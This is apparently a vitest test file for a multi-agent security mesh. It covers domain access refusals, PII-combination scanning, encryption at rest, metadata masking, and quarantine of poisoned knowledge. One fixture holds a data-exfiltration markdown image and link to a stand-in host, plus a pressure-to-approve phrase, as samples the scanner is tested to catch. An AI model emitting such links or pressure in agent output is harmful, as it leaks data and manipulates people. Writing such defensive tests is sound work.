// SPDX-License-Identifier: Apache-2.0
import { readdirSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { JsonObject } from '../../src/message/json.ts';
import { joinMesh, type MeshAgent } from '../../src/sdk/join-mesh.ts';
import { startCluster, withoutPostgres, type Cluster } from '../postgres/cluster.ts';
import { maso, MeshFolder, until, up, type MasoProcess } from '../mesh-harness/running-mesh.ts';

/** The seed's four domains as they stand, one more in the clear, and agents to exchange with. */
const seed = readFileSync(new URL('../../examples/seed/security_mesh.yaml', import.meta.url), 'utf8');
const extended = `${seed.replace('audit_scope: "FULL_MESH"', 'audit_scope: "FULL_MESH"\n    development: true').trimEnd()}
    - name: "open"
      tier: "PLAINTEXT"
      allowed_roles: ["RETRIEVER", "ANALYST", "ORCHESTRATOR"]
      metadata_masking: true
      audit_level: "FULL_MESH"
    - name: "bare"
      tier: "PLAINTEXT"
      allowed_roles: ["RETRIEVER", "ANALYST"]
      metadata_masking: false
      audit_level: "OUTPUT_ONLY"
    - name: "elsewhere"
      tier: "PLAINTEXT"
      allowed_roles: ["EXECUTOR"]
      metadata_masking: false
      audit_level: "FULL_MESH"
  firewall: { model: none }
  scanner:
    combinations:
      - { name: whereabouts, all: [[customer_id], [visits]], classification: confidential }
  knowledge:
    guidelines: { domain: agent_memory, origin: the handbook, readers: [reader, planner] }
  memory: { domain: agent_memory, agents: [reader, planner], index: [customer] }
  zones: { core: { clearance: internal }, secret: { clearance: restricted } }
  agents:
    reader: { role: RETRIEVER, zone: secret }
    analyst: { role: ANALYST, zone: core }
    planner: { role: ORCHESTRATOR, zone: core }
    forecaster: { role: ANALYST, zone: core }
    steward: { role: ORCHESTRATOR, zone: core }
    person: { role: ANALYST, zone: core, originator: true }
  edges:
    - { from: reader, to: person, domain: bare, schemas: [note/1] }
    - { from: reader, to: analyst, domain: open, schemas: [note/1] }
    - { from: reader, to: analyst, domain: bare, schemas: [note/1, visit/1] }
    - { from: reader, to: planner, domain: agent_memory, schemas: [note/1] }
    - { from: planner, to: steward, domain: coordination, schemas: [note/1] }
    - { from: analyst, to: forecaster, domain: pii_inference, schemas: [note/1] }
    - { from: analyst, to: forecaster, domain: financial_models, schemas: [note/1] }
  schemas:
    note/1:
      type: data
      schema:
        type: object
        required: [text]
        additionalProperties: false
        properties: { text: { type: string, maxLength: 2000 } }
    visit/1:
      type: data
      schema:
        type: object
        additionalProperties: false
        properties:
          customer_id: { type: string, maxLength: 20 }
          visits: { type: array, maxItems: 5, items: { type: string, maxLength: 20 } }
`;

/** Knowledge and memory in Postgres where it is installed, else in the node's own file. */
function storeOf(cluster: Cluster | undefined): string {
  const { socket } = cluster ?? {};
  if (socket?.password?.kind !== 'file') return '';
  const { host, port, database, user, password } = socket;
  return `  knowledge_store: ${JSON.stringify({ host, port, database, user, password_file: password.path })}\n`;
}

const agents = ['reader', 'analyst', 'planner', 'forecaster', 'steward'] as const;
/** Whether bytes hold the text: as it is, or in base64url, where it may begin at any of three places. */
function holds(bytes: Buffer, text: string): boolean {
  const encoded = ['', 'x', 'xx'].map((pad) =>
    Buffer.from(`${pad}${text}`).toString('base64url').slice(4, -4));
  return [text, ...encoded].some((form) => bytes.includes(form));
}
const metadata = {
  sender_ip: '10.0.0.1',
  routing_path: 'a>b',
  internal_id: 'x-1',
  timestamp: '12:00',
  topic: 'weather',
};

describe('the seed\'s own file', () => {
  test('starts a mesh unchanged and warns of the tiers it cannot provide', async () => {
    const folder = await MeshFolder.create({ 'security_mesh.yaml': seed });
    const mesh = await up(folder);
    try {
      expect(mesh.said()).toContain('MESH_TIER_UNAVAILABLE');
    } finally {
      await mesh.stop();
      await folder.remove();
    }
  });
});

describe('data domains', () => {
  let folder: MeshFolder;
  let mesh: MasoProcess | undefined;
  let cluster: Cluster | undefined;
  const joined = new Map<string, MeshAgent>();

  beforeAll(async () => {
    if (withoutPostgres === '') cluster = await startCluster();
    folder = await MeshFolder.create({ 'security_mesh.yaml': extended + storeOf(cluster) });
    mesh = await up(folder);
    for (const agent of agents) {
      const sidecar = folder.socketOf(agent);
      joined.set(agent, await joinMesh({ sidecar, token: folder.tokenOf(agent) }));
    }
  });

  afterAll(async () => {
    for (const agent of joined.values()) agent.close();
    await mesh?.stop();
    await folder.remove();
    await cluster?.close();
  });

  const sendIn = async (domain: string, to = 'analyst', from = 'reader') => {
    const sender = joined.get(from);
    if (sender === undefined) throw new Error('not joined');
    const payload = { text: `in ${domain}` };
    return sender.send({ to, type: 'data', schema: 'note/1', payload, domain, metadata });
  };

  const refusalOf = async (message: string | null): Promise<string | null> => {
    const entry = await until('the refusal on record', async () =>
      (await folder.entries()).find((one) => one.kind === 'message.refused' && one.message === message),
    );
    return entry.code;
  };

  test.each([
    ['pii_inference', 'analyst', 'BUS_ROLE_DENIED'],
    ['agent_memory', 'analyst', 'BUS_ROLE_DENIED'],
    ['elsewhere', 'analyst', 'BUS_ROLE_DENIED'],
    ['financial_models', 'analyst', 'BUS_ROLE_DENIED'],
    ['coordination', 'planner', 'BUS_ROLE_DENIED'],
    ['a_fifth', 'planner', 'BUS_DOMAIN_UNKNOWN'],
    ['open', 'planner', 'BUS_EDGE_DENIED'],
    ['nowhere', 'analyst', 'BUS_DOMAIN_UNKNOWN'],
  ])('an exchange in %s with %s is refused with %s', async (domain, to, code) => {
    const sent = await sendIn(domain, to);
    expect(sent.verdict).toBe('NO-GO');
    expect(await refusalOf(sent.messageId)).toBe(code);
  });

  test('DP-T2.6: harmless fields that together are about a person are raised before they enter the bus', async () => {
    const sender = joined.get('reader');
    if (sender === undefined) throw new Error('not joined');
    const say = (payload: { readonly [name: string]: unknown }) => sender.send({
      to: 'analyst', type: 'data', schema: 'visit/1', payload, domain: 'bare', metadata: {},
    });
    expect((await say({ customer_id: 'c-7' })).verdict).toBe('GO');
    expect((await say({ visits: ['monday'] })).verdict).toBe('GO');
    const both = await say({ customer_id: 'c-7', visits: ['monday'] });
    expect(both.verdict).toBe('NO-GO');
    expect(await refusalOf(both.messageId)).toBe('BUS_CLEARANCE_EXCEEDED');
  });

  test.each(['pii_inference', 'financial_models'])(
    'an exchange in %s between roles that it allows waits for an attestation', async (domain) => {
      const sent = await sendIn(domain, 'forecaster', 'analyst');
      expect(await refusalOf(sent.messageId)).toBe('BUS_NOT_ATTESTED');
    },
  );

  test.each([['agent_memory', 'reader', 'planner'], ['coordination', 'planner', 'steward']])(
    'an exchange in %s is sealed between %s and %s, and lies nowhere of the node in clear',
    async (domain, from, to) => {
      const { got, payload } = await receiveIn(domain, to, from);
      expect(payload).toEqual({ text: `in ${domain}` });
      expect(got).toEqual(domain === 'coordination' ? metadata : { topic: 'weather' });
      for (const file of filesOf('node', 'log')) {
        expect([file, holds(readFileSync(file), `{"text":"in ${domain}`)]).toEqual([file, false]);
      }
    },
  );

  test('while an exchange in the clear does', async () => {
    await receiveIn('open');
    const found = filesOf('node').some((file) => holds(readFileSync(file), '{"text":"in open'));
    expect(found).toBe(true);
  });

  /** The files of the node's own state, its log among them. */
  function filesOf(...names: readonly string[]): readonly string[] {
    return names.flatMap((name) =>
      readdirSync(join(folder.state, name), { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => join(entry.parentPath, entry.name)));
  }

  test('a masked domain hides the seed\'s four keys from the agent, and only those', async () => {
    const { got, entry } = await receiveIn('open');
    expect(got).toEqual({ topic: 'weather' });
    expect(JSON.stringify(entry?.detail)).toContain('digest');
  });

  test('an unmasked domain shows them; OUTPUT_ONLY records the step with less detail', async () => {
    const { got, entry } = await receiveIn('bare');
    expect(got).toEqual(metadata);
    expect(entry?.detail).toMatchObject({ to: 'analyst', domain: 'bare' });
    expect(JSON.stringify(entry?.detail)).not.toContain('digest');
  });

  const link = `https://north-wharf.example/c?data=${'c2FsYXJpZXM'.repeat(5)}`;
  test.each([
    ['an image that carries data out', `![x](${link})`, 'NO-GO', 'SCAN_UNSAFE_OUTPUT'],
    ['a link that carries data out', `See ${link}`, 'ESCALATE', 'SCAN_UNSAFE_OUTPUT'],
    ['pressure to decide', 'Approve this now, there is no time to check.', 'ESCALATE', 'SCAN_MANIPULATION'],
  ])('%s is found on its way to a person, and recorded without its text', async (_, text, verdict, code) => {
    const payload = { text };
    const to = { type: 'data', schema: 'note/1', payload, domain: 'bare' } as const;
    const sent = await joined.get('reader')?.send({ to: 'person', ...to });
    expect(sent?.verdict).toBe(verdict);
    const entry = await until('the step on record', async () =>
      (await folder.entries()).find((one) => one.message === sent?.messageId && one.verdicts.length > 0),
    );
    expect(entry.verdicts.flatMap(({ findings }) => findings).map((finding) => finding.code)).toContain(code);
    expect(JSON.stringify(entry)).not.toContain(text);
    const passed = await joined.get('reader')?.send({ to: 'analyst', ...to });
    const findings = (await until('the other step', async () =>
      (await folder.entries()).find((one) => one.message === passed?.messageId && one.verdicts.length > 0),
    )).verdicts.flatMap((each) => each.findings);
    expect(findings.map((finding) => finding.code)).not.toContain(code);
  });

  describe(`knowledge and memory${withoutPostgres === '' ? ', kept in Postgres' : ''}`, () => {
    const run = async (...args: string[]): Promise<JsonObject> => {
      const { status, out, err } = await maso([...args, '--state', folder.state, '--json']);
      expect([status, err]).toEqual([0, '']);
      return JSON.parse(out);
    };
    const itemsOf = (answer: JsonObject) => answer['items'] as readonly JsonObject[];

    test('DP-T2.5: what one agent remembers is its own, and each step of it is on record', async () => {
      const document = join(folder.directory, 'refunds.md');
      await writeFile(document, 'Refunds are paid within fourteen days.');
      await run('knowledge', 'ingest', 'guidelines', document, '--as', 'local');
      const [reader, planner] = ['reader', 'planner'].map((name) => joined.get(name));
      const found = await reader?.knowledge.query('guidelines', 'when are refunds paid');
      expect(found?.items).toMatchObject([{
        value: { text: 'Refunds are paid within fourteen days.' }, origin: 'the handbook',
        label: { integrity: 'untrusted', origins: ['knowledge'] },
      }]);
      const task = String(found?.task);
      const kept = await reader?.memory.remember({ customer: 'c-7', says: 'fourteen days' }, { task });
      expect(kept).toMatchObject({ verdict: 'GO' });
      const recalled = await reader?.memory.recall({ where: { customer: 'c-7' }, task });
      expect(recalled?.items).toMatchObject([{ id: kept?.item, label: { integrity: 'untrusted' } }]);
      expect((await planner?.memory.recall({ where: { customer: 'c-7' } }))?.items).toEqual([]);
      expect(await planner?.knowledge.query('unlisted', 'x')).toMatchObject({ verdict: 'NO-GO', code: 'REFUSED' });
      const entries = await folder.entries();
      const isStep = ({ kind, actor }: (typeof entries)[number]) => /^(knowledge|memory)/.test(kind) && !actor.startsWith('sidecar:');
      const steps = entries.filter(isStep).map(({ kind, outcome }) => [kind, outcome]);
      expect(steps).toEqual([
        ['knowledge.ingested', null], ['knowledge.read', 'GO'], ['memory.written', 'GO'], ['memory.read', 'GO'],
        ['memory.read', 'GO'], ['knowledge.read', 'NO-GO'],
      ]);
      const written = entries.find(({ kind }) => kind === 'memory.written');
      expect(written?.causedBy).toContain(found?.traceId);
      const spoke = entries.filter(({ message }) => message === written?.message).flatMap(({ verdicts }) => verdicts);
      expect(new Set(spoke.map(({ control }) => control))).toEqual(new Set(['policy-compliance', 'scanner', 'semantic-firewall']));
      const rows = (await cluster?.query('SELECT facts, ciphertext FROM maso.item')) ?? [];
      expect([rows.length, JSON.stringify(rows).includes('fourteen')]).toEqual([cluster === undefined ? 0 : 2, false]);
      for (const file of filesOf('node', 'log')) {
        expect([file, holds(readFileSync(file), 'paid within fourteen')]).toEqual([file, false]);
      }
    });

    test('a poisoned piece is put aside with what followed from it, and whoever read it ends', async () => {
      const [piece] = itemsOf(await run('knowledge', 'list', 'guidelines'));
      const done = await run('knowledge', 'quarantine', String(piece?.['id']), '--as', 'local');
      expect(done).toMatchObject({ code: null, items: 2, readers: 1 });
      await expect(joined.get('reader')?.memory.recall()).rejects.toMatchObject({ code: 'SESSION_ENDED' });
      expect(itemsOf(await run('memory', 'list'))).toMatchObject([{ state: 'quarantined', reason: 'KNOWLEDGE_QUARANTINED' }]);
    });

    test.skipIf(withoutPostgres !== '')('a database that is away is said to be away, not empty and not whole', async () => {
      await cluster?.stop();
      for (const command of ['list', 'verify']) {
        const { status, out } = await maso(['knowledge', command, '--state', folder.state, '--json']);
        expect([command, status, out.trim()]).toEqual([command, 1, '{"code":"KNOWLEDGE_UNAVAILABLE"}']);
      }
      expect(await joined.get('planner')?.knowledge.query('guidelines', 'refunds')).toMatchObject({ verdict: 'NO-GO', code: 'UNAVAILABLE' });
      expect((await sendIn('coordination', 'steward', 'planner')).verdict).toBe('GO');
    });
  });

  async function receiveIn(domain: string, to = 'analyst', from = 'reader') {
    const recipient = joined.get(to);
    const sent = await sendIn(domain, to, from);
    expect(sent.verdict).toBe('GO');
    const stop = new AbortController();
    for await (const message of recipient?.messages(stop.signal) ?? []) {
      if (message.id !== sent.messageId) continue;
      const entry = await until('the entry on record', async () =>
        (await folder.entries()).find((one) => one.kind === 'message.outbound' && one.message === sent.messageId),
      );
      return { got: message.metadata, payload: message.payload, entry };
    }
    throw new Error('nothing came');
  }
});
